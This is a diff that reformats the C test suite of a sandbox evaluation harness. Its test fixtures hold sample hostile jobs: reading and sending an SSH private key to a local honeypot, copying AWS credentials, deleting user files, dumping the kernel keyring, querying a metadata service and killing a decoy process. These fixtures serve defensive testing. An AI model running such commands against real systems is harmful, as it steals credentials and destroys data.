@@ -38,12 +38,11 @@
 #include "eval_run.h"
 #include "harness.h"
 
-TestSuite(eval, .init = harness_setup, .fini = harness_cleanup,
-	  .timeout = 120);
+TestSuite(eval, .init = harness_setup, .fini = harness_cleanup, .timeout = 120);
 
 static void
 write_file(const char *dir, const char *name, const void *data, size_t len,
-	   mode_t mode)
+    mode_t mode)
 {
 	char path[4096];
 	int fd;
@@ -60,24 +59,24 @@ write_file(const char *dir, const char *name, const void *data, size_t len,
 
 Test(eval, header_of_a_python_attack)
 {
-	static const char text[] =
-		"#!/usr/bin/env python3\n"
-		"# family: tricked-helper\n"
-		"# tries: plant a symlink for the file API\n"
-		"# source: none\n"
-		"# exfil: yes\n"
-		"# fileapi: get out/report.txt\n"
-		"# fileapi: put notes.md\n"
-		"import os\n"
-		"# family: not-a-header\n";
+	static const char text[] = "#!/usr/bin/env python3\n"
+				   "# family: tricked-helper\n"
+				   "# tries: plant a symlink for the file API\n"
+				   "# source: none\n"
+				   "# exfil: yes\n"
+				   "# fileapi: get out/report.txt\n"
+				   "# fileapi: put notes.md\n"
+				   "import os\n"
+				   "# family: not-a-header\n";
 	struct eval_attack a = {0};
 	struct eval_corpus c = {&a, 1};
 
 	cr_assert_eq(eval_header_parse(&a, EVAL_LANG_PYTHON, text,
-				       sizeof(text) - 1), 0);
+			 sizeof(text) - 1),
+	    0);
 	cr_assert_str_eq(eval_attack_get(&a, "family"), "tricked-helper");
 	cr_assert_str_eq(eval_attack_get(&a, "tries"),
-			 "plant a symlink for the file API");
+	    "plant a symlink for the file API");
 	cr_assert(a.exfil);
 	cr_assert_eq(a.ngets, 1);
 	cr_assert_str_eq(a.gets[0], "out/report.txt");
@@ -92,14 +91,15 @@ Test(eval, header_of_a_python_attack)
 Test(eval, header_of_a_c_attack)
 {
 	static const char text[] =
-		"/*\n * family: injection\n * tries: TIOCSTI\n"
-		" * source: https://example.org/x\n * exfil: no\n */\n"
-		"#include <stdio.h>\n";
+	    "/*\n * family: injection\n * tries: TIOCSTI\n"
+	    " * source: https://example.org/x\n * exfil: no\n */\n"
+	    "#include <stdio.h>\n";
 	struct eval_attack *a = calloc(1, sizeof(*a));
 	struct eval_corpus c = {a, 1};
 
 	cr_assert_eq(eval_header_parse(a, EVAL_LANG_BINARY, text,
-				       sizeof(text) - 1), 0);
+			 sizeof(text) - 1),
+	    0);
 	cr_assert_str_eq(eval_attack_get(a, "family"), "injection");
 	cr_assert_str_eq(eval_attack_get(a, "source"), "https://example.org/x");
 	cr_assert(!a->exfil);
@@ -109,11 +109,11 @@ Test(eval, header_of_a_c_attack)
 Test(eval, invalid_headers_are_refused)
 {
 	static const char *const bad[] = {
-		"# family: mistake\n# exfil: maybe\n",
-		"# family: mistake\n# fileapi: fetch x\n",
-		"# family: mistake\n# fileapi: get two words\n",
-		"# tries: no family\n",
-		"import os\n# family: mistake\n",
+	    "# family: mistake\n# exfil: maybe\n",
+	    "# family: mistake\n# fileapi: fetch x\n",
+	    "# family: mistake\n# fileapi: get two words\n",
+	    "# tries: no family\n",
+	    "import os\n# family: mistake\n",
 	};
 
 	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
@@ -121,8 +121,8 @@ Test(eval, invalid_headers_are_refused)
 		struct eval_corpus c = {a, 1};
 
 		cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, bad[i],
-					       strlen(bad[i])), -EINVAL,
-			     "accepted: %s", bad[i]);
+				 strlen(bad[i])),
+		    -EINVAL, "accepted: %s", bad[i]);
 		eval_corpus_free(&c);
 	}
 }
@@ -132,31 +132,32 @@ Test(eval, invalid_headers_are_refused)
 Test(eval, header_stopped_when_and_attempted_when)
 {
 	static const char text[] =
-		"# family: mistake\n# exfil: yes\n"
-		"# stopped-when: canary-unread, decoy-unsignalled,no-survivor\n"
-		"# attempted-when: marker\n";
+	    "# family: mistake\n# exfil: yes\n"
+	    "# stopped-when: canary-unread, decoy-unsignalled,no-survivor\n"
+	    "# attempted-when: marker\n";
 	static const char *const bad[] = {
-		"# family: mistake\n# stopped-when: canary-read\n",
-		"# family: mistake\n# stopped-when:\n",
-		"# family: mistake\n# stopped-when: canary-unread canary-unread\n",
-		"# family: mistake\n# stopped-when: canary-unread\n"
-		"# stopped-when: files-intact\n",
-		"# family: mistake\n# attempted-when: exit-0\n",
-		"# family: mistake\n# attempted-when: marker\n"
-		"# attempted-when: marker\n",
+	    "# family: mistake\n# stopped-when: canary-read\n",
+	    "# family: mistake\n# stopped-when:\n",
+	    "# family: mistake\n# stopped-when: canary-unread canary-unread\n",
+	    "# family: mistake\n# stopped-when: canary-unread\n"
+	    "# stopped-when: files-intact\n",
+	    "# family: mistake\n# attempted-when: exit-0\n",
+	    "# family: mistake\n# attempted-when: marker\n"
+	    "# attempted-when: marker\n",
 	};
 	struct eval_attack *a = calloc(1, sizeof(*a));
 	struct eval_corpus c = {a, 1};
 	char err[256];
 
 	cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, text,
-				       sizeof(text) - 1), 0);
-	cr_assert_eq(a->stopped_when, EVAL_STOP_CANARY | EVAL_STOP_DECOY |
-		     EVAL_STOP_SURVIVOR);
+			 sizeof(text) - 1),
+	    0);
+	cr_assert_eq(a->stopped_when,
+	    EVAL_STOP_CANARY | EVAL_STOP_DECOY | EVAL_STOP_SURVIVOR);
 	cr_assert_eq(a->attempted_when, EVAL_ATTEMPT_MARKER);
 	cr_assert_eq(eval_header_contract(a, err, sizeof(err)), 0, "%s", err);
 	cr_assert_str_eq(eval_stop_name(EVAL_STOP_TERMINAL),
-			 "terminal-untouched");
+	    "terminal-untouched");
 	/* An exfil attack is stopped when its canary is unread. */
 	a->stopped_when = EVAL_STOP_FILES;
 	cr_assert_eq(eval_header_contract(a, err, sizeof(err)), -EINVAL);
@@ -166,8 +167,8 @@ Test(eval, header_stopped_when_and_attempted_when)
 		a = calloc(1, sizeof(*a));
 		c = (struct eval_corpus){a, 1};
 		cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, bad[i],
-					       strlen(bad[i])), -EINVAL,
-			     "accepted: %s", bad[i]);
+				 strlen(bad[i])),
+		    -EINVAL, "accepted: %s", bad[i]);
 		eval_corpus_free(&c);
 	}
 }
@@ -183,12 +184,14 @@ Test(eval, corpus_entry_must_declare_stopped_and_attempt)
 
 	write_file(d, "01-a.py", h, strlen(h), 0644);
 	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
-				      sizeof(err)), -EINVAL);
+			 sizeof(err)),
+	    -EINVAL);
 	cr_assert_not_null(strstr(err, "01-a.py"), "%s", err);
 	cr_assert_not_null(strstr(err, "stopped-when"), "%s", err);
 	/* The hostile programs of tests/eval/ (any name) need neither. */
 	cr_assert_eq(eval_corpus_load(&c, d, NULL, true, NULL, 0, err,
-				      sizeof(err)), 0, "%s", err);
+			 sizeof(err)),
+	    0, "%s", err);
 	eval_corpus_free(&c);
 }
 
@@ -204,7 +207,10 @@ Test(eval, corpus_directory_and_only)
 
 	write_file(d, "01-a.py", h, strlen(h), 0644);
 	write_file(d, "02-b.sh", h, strlen(h), 0644);
-	write_file(d, "03-c", "\x7f" "ELF", 4, 0755);
+	write_file(d, "03-c",
+	    "\x7f"
+	    "ELF",
+	    4, 0755);
 	{
 		static const char ch[] = "/*\n * family: injection\n"
 					 " * stopped-when: files-intact\n"
@@ -215,7 +221,8 @@ Test(eval, corpus_directory_and_only)
 	write_file(d, "README.md", "x", 1, 0644);
 	write_file(d, "04-not-executable", "x", 1, 0644);
 	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
-				      sizeof(err)), 0, "%s", err);
+			 sizeof(err)),
+	    0, "%s", err);
 	cr_assert_eq(c.n, 3);
 	cr_assert_str_eq(c.v[0].name, "01-a");
 	cr_assert_eq(c.v[0].lang, EVAL_LANG_PYTHON);
@@ -225,21 +232,23 @@ Test(eval, corpus_directory_and_only)
 	cr_assert_str_eq(eval_attack_get(&c.v[2], "family"), "injection");
 	eval_corpus_free(&c);
 	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, only, 1, err,
-				      sizeof(err)), 0, "%s", err);
+			 sizeof(err)),
+	    0, "%s", err);
 	cr_assert_eq(c.n, 1);
 	cr_assert_str_eq(c.v[0].name, "02-b");
 	eval_corpus_free(&c);
 	write_file(d, "02-again.py", h, strlen(h), 0644);
 	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
-				      sizeof(err)), -EEXIST);
+			 sizeof(err)),
+	    -EEXIST);
 	cr_assert_not_null(strstr(err, "same number"), "%s", err);
 }
 
 /* ---- the searches ------------------------------------------------------- */
 
 static const struct eval_needle needles[] = {
-	{"one", "sshkey-0123456789abcdef", 23},
-	{"pwned", "PWNED 00112233", 14},
+    {"one", "sshkey-0123456789abcdef", 23},
+    {"pwned", "PWNED 00112233", 14},
 };
 
 Test(eval, canary_in_a_workspace_file_is_found)
@@ -256,19 +265,22 @@ Test(eval, canary_in_a_workspace_file_is_found)
 	write_file(d, "clean.txt", "nothing here\n", 13, 0644);
 	fd = open(d, O_RDONLY | O_DIRECTORY);
 	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
-				    sizeof(path)), 0, "a clean tree");
+			 sizeof(path)),
+	    0, "a clean tree");
 	/* Across the 256 KiB pieces the files are read in. */
 	big = malloc(300000);
 	memset(big, 'x', 300000);
 	memcpy(big + 262144 - 10, "sshkey-0123456789abcdef", 23);
 	write_file(sub, "loot.bin", big, 300000, 0600);
 	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
-				    sizeof(path)), 1);
+			 sizeof(path)),
+	    1);
 	cr_assert_eq(which, 0);
 	cr_assert_str_eq(path, "a/b/loot.bin");
 	/* A budget too small to reach it finds nothing. */
 	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1000, &which, path,
-				    sizeof(path)), 0);
+			 sizeof(path)),
+	    0);
 	free(big);
 	close(fd);
 }
@@ -282,13 +294,14 @@ Test(eval, the_tree_search_follows_no_link_and_opens_no_fifo)
 
 	write_file(out, "secret", "PWNED 00112233\n", 15, 0644);
 	snprintf(path, sizeof(path), "%s/secret", out);
-	cr_assert_eq(symlinkat(path, open(d, O_RDONLY | O_DIRECTORY),
-			       "link"), 0);
+	cr_assert_eq(symlinkat(path, open(d, O_RDONLY | O_DIRECTORY), "link"),
+	    0);
 	snprintf(path, sizeof(path), "%s/fifo", d);
 	cr_assert_eq(mkfifo(path, 0644), 0);
 	fd = open(d, O_RDONLY | O_DIRECTORY);
 	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
-				    sizeof(path)), 0);
+			 sizeof(path)),
+	    0);
 	close(fd);
 }
 
@@ -359,10 +372,10 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	struct eval_honeypot *hp;
 	char err[256], where[32];
 	struct sockaddr_in in = {.sin_family = AF_INET,
-				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
 	struct sockaddr_un un = {.sun_family = AF_UNIX};
 	unsigned char dns[64] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
-				 3, 'f', 'o', 'o', 0, 0, 1, 0, 1};
+	    3, 'f', 'o', 'o', 0, 0, 1, 0, 1};
 	unsigned char reply[512];
 	uint64_t m0;
 	int s, which = -1;
@@ -372,7 +385,8 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	m0 = eval_honeypot_mark(hp);
 	cr_assert_eq(eval_honeypot_sync(hp), 0);
 	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
-					sizeof(where)), 0);
+			 sizeof(where)),
+	    0);
 
 	/* TCP, the needle cut in two writes. */
 	in.sin_port = htons(eval_honeypot_tcp_port(hp));
@@ -384,7 +398,8 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	close(s);
 	cr_assert_eq(eval_honeypot_sync(hp), 0);
 	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
-					sizeof(where)), 1);
+			 sizeof(where)),
+	    1);
 	cr_assert_eq(which, 0);
 	cr_assert_str_eq(where, "tcp");
 
@@ -393,8 +408,8 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	in.sin_port = htons(eval_honeypot_udp_port(hp));
 	s = socket(AF_INET, SOCK_DGRAM, 0);
 	memcpy(dns + 21, "PWNED 00112233", 14);
-	cr_assert_eq(sendto(s, dns, 35, 0, (struct sockaddr *)&in,
-			    sizeof(in)), 35);
+	cr_assert_eq(sendto(s, dns, 35, 0, (struct sockaddr *)&in, sizeof(in)),
+	    35);
 	{
 		struct pollfd p = {s, POLLIN, 0};
 
@@ -406,7 +421,8 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	close(s);
 	cr_assert_eq(eval_honeypot_sync(hp), 0);
 	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
-					sizeof(where)), 1);
+			 sizeof(where)),
+	    1);
 	cr_assert_eq(which, 1);
 	cr_assert_str_eq(where, "udp");
 
@@ -416,13 +432,15 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	memcpy(un.sun_path + 1, eval_honeypot_unix_name(hp), ulen);
 	s = socket(AF_UNIX, SOCK_STREAM, 0);
 	cr_assert_eq(connect(s, (struct sockaddr *)&un,
-			     (socklen_t)(offsetof(struct sockaddr_un,
-						  sun_path) + 1 + ulen)), 0);
+			 (socklen_t)(offsetof(struct sockaddr_un, sun_path) +
+			     1 + ulen)),
+	    0);
 	cr_assert_eq(write(s, "PWNED 00112233", 14), 14);
 	/* Still open: sync reads what is queued, not only closed ones. */
 	cr_assert_eq(eval_honeypot_sync(hp), 0);
 	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
-					sizeof(where)), 1);
+			 sizeof(where)),
+	    1);
 	cr_assert_str_eq(where, "unix");
 	close(s);
 
@@ -431,7 +449,8 @@ Test(eval, honeypot_records_tcp_udp_and_unix)
 	m0 = eval_honeypot_mark(hp);
 	cr_assert_eq(eval_honeypot_sync(hp), 0);
 	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
-					sizeof(where)), 0);
+			 sizeof(where)),
+	    0);
 	eval_honeypot_forget(hp, m0);
 	eval_honeypot_stop(hp);
 }
@@ -443,8 +462,8 @@ http_get(struct eval_honeypot *hp)
 {
 	static const char req[] = "GET /latest/meta-data/ HTTP/1.0\r\n\r\n";
 	struct sockaddr_in in = {.sin_family = AF_INET,
-				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
-				 .sin_port = htons(eval_honeypot_tcp_port(hp))};
+	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
+	    .sin_port = htons(eval_honeypot_tcp_port(hp))};
 	char *buf = calloc(1, 65536);
 	size_t len = 0;
 	ssize_t n;
@@ -468,7 +487,7 @@ Test(eval, honeypot_answers_http_with_the_secrets_served)
 	cr_assert_eq(eval_honeypot_serve(hp, "service-2222"), 0);
 	answer = http_get(hp);
 	cr_assert_eq(strncmp(answer, "HTTP/1.0 200 OK\r\n", 17), 0, "%s",
-		     answer);
+	    answer);
 	cr_assert_not_null(strstr(answer, "\"service-1111\""), "%s", answer);
 	cr_assert_not_null(strstr(answer, "\"service-2222\""), "%s", answer);
 	free(answer);
@@ -493,7 +512,7 @@ eval_program(void)
 	slash = strrchr(path, '/');
 	cr_assert_not_null(slash);
 	snprintf(slash, sizeof(path) - (size_t)(slash - path),
-		 "/stockade-eval");
+	    "/stockade-eval");
 	cr_assert_eq(access(path, X_OK), 0, "%s: %s", path, strerror(errno));
 	return path;
 }
@@ -504,8 +523,9 @@ Test(eval, decoy_records_signals_and_death)
 	char what[128], path[64], *cmd;
 	size_t len;
 
-	cr_assert_eq(eval_decoy_start(&d, eval_program(),
-				      "decoyargv-abc", "decoyenv-def"), 0);
+	cr_assert_eq(eval_decoy_start(&d, eval_program(), "decoyargv-abc",
+			 "decoyenv-def"),
+	    0);
 	cr_assert_eq(eval_decoy_check(&d, what, sizeof(what)), 0);
 	snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)d.pid);
 	cmd = harness_read_file(path, &len);
@@ -518,16 +538,16 @@ Test(eval, decoy_records_signals_and_death)
 	cr_assert_not_null(memmem(cmd, len, "DECOY_SECRET=decoyenv-def", 25));
 	free(cmd);
 	cr_assert_eq(kill(d.pid, SIGUSR1), 0);
-	for (int i = 0; i < 100 && eval_decoy_check(&d, what,
-						     sizeof(what)) == 0; i++)
+	for (int i = 0;
+	     i < 100 && eval_decoy_check(&d, what, sizeof(what)) == 0; i++)
 		usleep(10000);
 	cr_assert_str_eq(what, "received SIGUSR1");
 	eval_decoy_stop(&d);
 
 	cr_assert_eq(eval_decoy_start(&d, eval_program(), "a", "b"), 0);
 	cr_assert_eq(kill(d.pid, SIGKILL), 0);
-	for (int i = 0; i < 100 && eval_decoy_check(&d, what,
-						     sizeof(what)) == 0; i++)
+	for (int i = 0;
+	     i < 100 && eval_decoy_check(&d, what, sizeof(what)) == 0; i++)
 		usleep(10000);
 	cr_assert_str_eq(what, "killed by SIGKILL");
 	eval_decoy_stop(&d);
@@ -542,30 +562,30 @@ Test(eval, decoy_records_signals_and_death)
  * careless file API). The decoy is stockade-eval's own (eval_ctx.decoy).
  */
 static const char bare[] =
-	"#!/usr/bin/python3\n"
-	"import json, os, shutil, subprocess, sys, time\n"
-	"a = sys.argv[1:]\n"
-	"def opt(n):\n"
-	"    return a[a.index(n) + 1]\n"
-	"ws = opt('--workspace')\n"
-	"if a[0] == 'run':\n"
-	"    t = time.monotonic()\n"
-	"    p = subprocess.run(a[a.index('--') + 1:], cwd=ws,\n"
-	"                       capture_output=True, timeout=20)\n"
-	"    print(json.dumps({'status': 'ok' if p.returncode == 0 else\n"
-	"                      'exit_nonzero', 'exit_code': p.returncode,\n"
-	"                      'stdout': p.stdout.decode('utf-8', 'replace'),\n"
-	"                      'stderr': p.stderr.decode('utf-8', 'replace'),\n"
-	"                      'stdout_bytes': len(p.stdout),\n"
-	"                      'wall_ms': int((time.monotonic() - t) * 1000)}))\n"
-	"    sys.exit(0 if p.returncode == 0 else 1)\n"
-	"if a[0] == 'get':\n"
-	"    shutil.copyfile(os.path.join(ws, a[-2]), a[-1])\n"
-	"if a[0] == 'put':\n"
-	"    shutil.copyfile(a[-2], os.path.join(ws, a[-1]))\n";
+    "#!/usr/bin/python3\n"
+    "import json, os, shutil, subprocess, sys, time\n"
+    "a = sys.argv[1:]\n"
+    "def opt(n):\n"
+    "    return a[a.index(n) + 1]\n"
+    "ws = opt('--workspace')\n"
+    "if a[0] == 'run':\n"
+    "    t = time.monotonic()\n"
+    "    p = subprocess.run(a[a.index('--') + 1:], cwd=ws,\n"
+    "                       capture_output=True, timeout=20)\n"
+    "    print(json.dumps({'status': 'ok' if p.returncode == 0 else\n"
+    "                      'exit_nonzero', 'exit_code': p.returncode,\n"
+    "                      'stdout': p.stdout.decode('utf-8', 'replace'),\n"
+    "                      'stderr': p.stderr.decode('utf-8', 'replace'),\n"
+    "                      'stdout_bytes': len(p.stdout),\n"
+    "                      'wall_ms': int((time.monotonic() - t) * 1000)}))\n"
+    "    sys.exit(0 if p.returncode == 0 else 1)\n"
+    "if a[0] == 'get':\n"
+    "    shutil.copyfile(os.path.join(ws, a[-2]), a[-1])\n"
+    "if a[0] == 'put':\n"
+    "    shutil.copyfile(a[-2], os.path.join(ws, a[-1]))\n";
 
 struct fixture {
-	const char *dir;                /* the attacks, the bare broker */
+	const char *dir; /* the attacks, the bare broker */
 	char bare_path[4096];
 	struct eval_honeypot *hp;
 	struct eval_ctx ctx;
@@ -594,7 +614,7 @@ fixture_init(struct fixture *f)
 		write_file(base, "policy.ini", pol, strlen(pol), 0644);
 	}
 	cr_assert_eq(eval_honeypot_start(&f->hp, err, sizeof(err)), 0, "%s",
-		     err);
+	    err);
 	f->ctx.base = base;
 	f->ctx.hp = f->hp;
 	f->ctx.decoy = eval_program();
@@ -606,7 +626,7 @@ fixture_init(struct fixture *f)
 /* Writes the attack NAME (its TEXT) and runs it under BROKER. */
 static void
 run_attack(struct fixture *f, const char *broker, const char *name,
-	   enum eval_lang lang, const char *text, struct eval_verdict *v)
+    enum eval_lang lang, const char *text, struct eval_verdict *v)
 {
 	struct eval_attack a = {0};
 	char path[4096], nm[256];
@@ -652,60 +672,58 @@ static void
 show(const struct eval_verdict *v)
 {
 	fprintf(stderr, "outcome %s status %s exit %d error %s\n",
-		eval_outcome_name(v->outcome), v->status, v->exit_code,
-		v->error);
+	    eval_outcome_name(v->outcome), v->status, v->exit_code, v->error);
 	for (size_t i = 0; i < v->nev; i++)
 		fprintf(stderr, "  %s | %s | %s\n", v->ev[i].rule,
-			v->ev[i].where, v->ev[i].detail);
+		    v->ev[i].where, v->ev[i].detail);
 }
 
 #define H "# family: mistake\n# tries: test\n# exfil: no\n"
 
 static const char clean[] = H "print('hello from a clean job')\n";
 static const char tcp[] = H
-	"import socket, sys\n"
-	"key = open(sys.argv[2] + '/.ssh/id_ed25519').read()\n"
-	"s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
-	"s.sendall(key.encode())\n";
+    "import socket, sys\n"
+    "key = open(sys.argv[2] + '/.ssh/id_ed25519').read()\n"
+    "s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
+    "s.sendall(key.encode())\n";
 static const char pwned[] = H "import sys\nprint('PWNED', sys.argv[1])\n";
 static const char leftover[] = H
-	"bash -c 'exec -a \"sleep-$0\" sleep 30' \"$1\" </dev/null "
-	">/dev/null 2>&1 &\n";
+    "bash -c 'exec -a \"sleep-$0\" sleep 30' \"$1\" </dev/null "
+    ">/dev/null 2>&1 &\n";
 /* A leftover whose command line does not hold the token: found as the
  * terminal owner's orphan (review F3). It names itself with a marker
  * of this test's, not the token. */
 static const char hidden[] = H
-	"setsid bash -c 'exec -a stockade-eval-hidden sleep 31' </dev/null "
-	">/dev/null 2>&1 &\n";
-static const char outside[] = H
-	"echo x > \"/tmp/eval-test-$1.txt\"\n";
+    "setsid bash -c 'exec -a stockade-eval-hidden sleep 31' </dev/null "
+    ">/dev/null 2>&1 &\n";
+static const char outside[] = H "echo x > \"/tmp/eval-test-$1.txt\"\n";
 static const char rm_userfiles[] = H "rm -rf \"$8/src\"\n";
 static const char copy_creds[] = H "cp \"$2/.aws/credentials\" ./loot.txt\n";
 static const char env_dump[] = H "env\n";
 static const char kill_decoy[] = H "kill -TERM \"$7\"\n";
 static const char tty[] = H "printf 'typed %s\\n' \"$1\" > /dev/tty\n";
 static const char link_get[] = "# family: tricked-helper\n# exfil: yes\n"
-	"# fileapi: get out.txt\n"
-	"ln -s \"$2/.ssh/id_ed25519\" out.txt\n";
+			       "# fileapi: get out.txt\n"
+			       "ln -s \"$2/.ssh/id_ed25519\" out.txt\n";
 static const char others[] = H
-	"echo shm-0123456789abcdef0123 and 0123456789abcdef0123456789abcdef\n";
+    "echo shm-0123456789abcdef0123 and 0123456789abcdef0123456789abcdef\n";
 static const char flood[] = H "head -c 400000 /dev/zero | tr '\\0' x\n";
 /* The session keyring the job inherited, read with keyctl(2) through
  * ctypes (x86_64's system call number), and the metadata service. */
 static const char keyring[] = H
-	"import ctypes, sys\n"
-	"libc = ctypes.CDLL(None, use_errno=True)\n"
-	"ids = (ctypes.c_int32 * 64)()\n"
-	"n = libc.syscall(250, 11, -3, ids, ctypes.sizeof(ids))\n"
-	"for k in ids[:max(0, n) // 4]:\n"
-	"    buf = ctypes.create_string_buffer(4096)\n"
-	"    m = libc.syscall(250, 11, k, buf, 4096)\n"
-	"    print(buf.raw[:max(0, m)].decode(errors='replace'))\n";
+    "import ctypes, sys\n"
+    "libc = ctypes.CDLL(None, use_errno=True)\n"
+    "ids = (ctypes.c_int32 * 64)()\n"
+    "n = libc.syscall(250, 11, -3, ids, ctypes.sizeof(ids))\n"
+    "for k in ids[:max(0, n) // 4]:\n"
+    "    buf = ctypes.create_string_buffer(4096)\n"
+    "    m = libc.syscall(250, 11, k, buf, 4096)\n"
+    "    print(buf.raw[:max(0, m)].decode(errors='replace'))\n";
 static const char metadata[] = H
-	"import socket, sys\n"
-	"s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
-	"s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
-	"print(s.makefile('rb').read().decode())\n";
+    "import socket, sys\n"
+    "s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
+    "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
+    "print(s.makefile('rb').read().decode())\n";
 
 Test(eval, bare_runs_fire_each_rule)
 {
@@ -728,23 +746,23 @@ Test(eval, bare_runs_fire_each_rule)
 	/* The job's first words are kept, never its secrets. */
 	cr_assert_str_eq(v.output, "PWNED <token> ");
 
-	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL,
-		   leftover, &v);
+	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL, leftover,
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "leftover", "process", "sleep-<token>"));
 
 	run_attack(&f, f.bare_path, "04-outside.sh", EVAL_LANG_SHELL, outside,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "outside", "/tmp", "eval-test-<token>.txt written"));
 
 	run_attack(&f, f.bare_path, "05-rm.sh", EVAL_LANG_SHELL, rm_userfiles,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "outside", "userfiles", "deleted userfiles/src"));
 
 	run_attack(&f, f.bare_path, "06-copy.sh", EVAL_LANG_SHELL, copy_creds,
-		   &v);
+	    &v);
 	cr_assert(has(&v, "canary", "workspace", "aws_file in loot.txt"));
 
 	run_attack(&f, f.bare_path, "07-env.sh", EVAL_LANG_SHELL, env_dump, &v);
@@ -753,12 +771,12 @@ Test(eval, bare_runs_fire_each_rule)
 	cr_assert_null(strstr(v.output, "envapi-"), "%s", v.output);
 	/* Nor what looks like another run's: a job may list the host. */
 	run_attack(&f, f.bare_path, "07-others.sh", EVAL_LANG_SHELL, others,
-		   &v);
+	    &v);
 	cr_assert_eq(v.outcome, EVAL_STOPPED);
 	cr_assert_str_eq(v.output, "<shm> and <hex> ");
 
 	run_attack(&f, f.bare_path, "08-kill.sh", EVAL_LANG_SHELL, kill_decoy,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "outside", "decoy", "received SIGTERM"));
 
@@ -767,23 +785,23 @@ Test(eval, bare_runs_fire_each_rule)
 	cr_assert(has(&v, "terminal", "pty", NULL));
 
 	run_attack(&f, f.bare_path, "10-link.sh", EVAL_LANG_SHELL, link_get,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "canary", "fileapi get out.txt", "ssh_key"));
 	cr_assert(!has(&v, "canary", "workspace", NULL),
-		  "the workspace search follows no link");
+	    "the workspace search follows no link");
 
 	run_attack(&f, f.bare_path, "11-flood.sh", EVAL_LANG_SHELL, flood, &v);
 	cr_assert(has(&v, "flood", "stdout", "400000 bytes"));
 
 	run_attack(&f, f.bare_path, "12-metadata.py", EVAL_LANG_PYTHON,
-		   metadata, &v);
+	    metadata, &v);
 	show(&v);
 	cr_assert(has(&v, "canary", "stdout", "service"));
 
 #if defined(__x86_64__)
 	run_attack(&f, f.bare_path, "13-keyring.py", EVAL_LANG_PYTHON, keyring,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "canary", "stdout", "keyring"));
 #endif
@@ -797,14 +815,14 @@ Test(eval, leftovers_of_a_run_are_killed)
 	pid_t pids[4];
 
 	fixture_init(&f);
-	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL,
-		   leftover, &v);
+	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL, leftover,
+	    &v);
 	cr_assert(has(&v, "leftover", "process", NULL));
 	/* The evidence names the process with the token hidden. */
 	cr_assert_not_null(strstr(v.ev[0].detail, "sleep-<token>"), "%s",
-			   v.ev[0].detail);
+	    v.ev[0].detail);
 	cr_assert_eq(harness_count_marked("sleep-", 0, pids, 4), 0,
-		     "a leftover survived its run");
+	    "a leftover survived its run");
 	eval_honeypot_stop(f.hp);
 }
 
@@ -816,12 +834,12 @@ Test(eval, leftovers_without_the_token_are_found_and_killed)
 
 	fixture_init(&f);
 	run_attack(&f, f.bare_path, "05-hidden.sh", EVAL_LANG_SHELL, hidden,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert(has(&v, "leftover", "process", "no token"));
 	cr_assert_eq(harness_count_marked("stockade-eval-hidden", 1000, pids,
-					  4), 0,
-		     "a leftover without the token survived its run");
+			 4),
+	    0, "a leftover without the token survived its run");
 	eval_honeypot_stop(f.hp);
 }
 
@@ -834,24 +852,24 @@ Test(eval, full_product_stops_them)
 		enum eval_lang lang;
 		const char *text;
 	} t[] = {
-		{"00-clean.py", EVAL_LANG_PYTHON, clean},
-		{"01-tcp.py", EVAL_LANG_PYTHON, tcp},
-		{"03-leftover.sh", EVAL_LANG_SHELL, leftover},
-		{"04-outside.sh", EVAL_LANG_SHELL, outside},
-		{"05-rm.sh", EVAL_LANG_SHELL, rm_userfiles},
-		{"08-kill.sh", EVAL_LANG_SHELL, kill_decoy},
-		{"09-tty.sh", EVAL_LANG_SHELL, tty},
-		{"10-link.sh", EVAL_LANG_SHELL, link_get},
-		{"12-metadata.py", EVAL_LANG_PYTHON, metadata},
+	    {"00-clean.py", EVAL_LANG_PYTHON, clean},
+	    {"01-tcp.py", EVAL_LANG_PYTHON, tcp},
